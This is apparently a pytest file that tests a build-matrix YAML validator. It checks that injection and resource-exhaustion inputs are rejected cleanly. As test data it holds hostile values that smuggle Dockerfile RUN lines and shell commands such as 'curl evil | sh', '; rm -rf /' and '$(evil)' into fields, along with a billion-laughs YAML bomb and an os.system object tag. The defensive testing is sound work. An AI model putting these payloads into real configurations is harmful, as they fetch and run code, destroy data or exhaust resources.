"""Hostile matrix files: injected Dockerfile instructions, YAML bombs, recursive
aliases, merge and complex keys, NUL bytes, huge files. Each is exit 2 with
file:line and no traceback, and quickly."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import CliRunner

Write = Callable[[str, str], Path]

GOOD = """\
version: 1
registry: {url: 127.0.0.1:5000, repository: orchestrate/builder}
builder:
  proxy: {http: null, https: null, no_proxy: null}
packages:
  deb: [libffi-dev]
distros:
  - name: debian
    release: bookworm
    family: deb
    base: debian:bookworm
    python: ["3.11"]
    glibc: "2.36"
    arches: [amd64]
    packages: []
"""


def validate(cli: CliRunner, path: Path) -> tuple[int, str]:
    result = cli("matrix", "validate", str(path))
    assert "Traceback" not in result.err
    return result.code, result.err


def test_the_good_file_is_good(cli: CliRunner, tmp_path: Path) -> None:
    (tmp_path / "m.yaml").write_text(GOOD)
    assert validate(cli, tmp_path / "m.yaml")[0] == 0


@pytest.mark.parametrize(
    ("old", "new", "line", "words"),
    [
        ("base: debian:bookworm", 'base: "debian:bookworm\\nRUN curl evil | sh"', 11, "image ref"),
        ("base: debian:bookworm", 'base: ""', 11, "image ref"),
        ("base: debian:bookworm", 'base: "debian:bookworm; rm -rf /"', 11, "image ref"),
        ("deb: [libffi-dev]", 'deb: ["libffi-dev && curl evil"]', 6, "deb package name"),
        ("packages: []", 'packages: ["x\\nRUN evil"]', 15, "deb package name"),
        ("http: null", 'http: "http://proxy:3128\\nRUN evil"', 4, "a URL"),
        ("http: null", 'http: "http://proxy:3128 $(evil)"', 4, "a URL"),
        ("no_proxy: null", 'no_proxy: "localhost;evil"', 4, "hosts, domains"),
        ("builder:\n", 'builder:\n  user: "root\\nUSER root"\n', 4, "user"),
    ],
)
def test_strings_cannot_inject_instructions(
    cli: CliRunner, tmp_path: Path, old: str, new: str, *, line: int, words: str
) -> None:
    assert old in GOOD
    path = tmp_path / "m.yaml"
    path.write_text(GOOD.replace(old, new, 1))
    code, err = validate(cli, path)
    assert code == 2, err
    assert f"m.yaml:{line}" in err
    assert words in err


def test_billion_laughs_is_refused_quickly(cli: CliRunner, tmp_path: Path) -> None:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    path = tmp_path / "m.yaml"
    path.write_text("\n".join(lines) + "\n" + GOOD)
    started = time.monotonic()
    code, err = validate(cli, path)
    assert code == 2
    assert "too much data" in err
    assert time.monotonic() - started < 5


def test_recursive_alias_is_refused(cli: CliRunner, tmp_path: Path) -> None:
    path = tmp_path / "m.yaml"
    path.write_text("loop: &loop [*loop]\n" + GOOD)
    code, err = validate(cli, path)
    assert code == 2
    assert "recursive alias" in err or "YAML" in err


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("defaults: &d {family: deb}\nother:\n  <<: *d\n", "merge keys"),
        ("? [a, b]\n: value\n", "plain name"),
        ("x: !!python/object/apply:os.system ['echo hi']\n", "not allowed"),
    ],
)
def test_merge_and_complex_keys_and_tags(
    cli: CliRunner, tmp_path: Path, text: str, words: str
) -> None:
    path = tmp_path / "m.yaml"
    path.write_text(text + GOOD)
    code, err = validate(cli, path)
    assert code == 2, err
    assert words in err


def test_nul_bytes_and_huge_files(cli: CliRunner, tmp_path: Path) -> None:
    path = tmp_path / "m.yaml"
    path.write_text(GOOD.replace("glibc", "gl\0ibc"))
    code, err = validate(cli, path)
    assert code == 2
    assert "NUL" in err
    path.write_text(GOOD + "#" + "x" * (2 << 20) + "\n")
    code, err = validate(cli, path)
    assert code == 2
    assert "KiB" in err


def test_a_bom_is_fine(cli: CliRunner, tmp_path: Path) -> None:
    path = tmp_path / "m.yaml"
    path.write_bytes(b"\xef\xbb\xbf" + GOOD.encode())
    assert validate(cli, path)[0] == 0
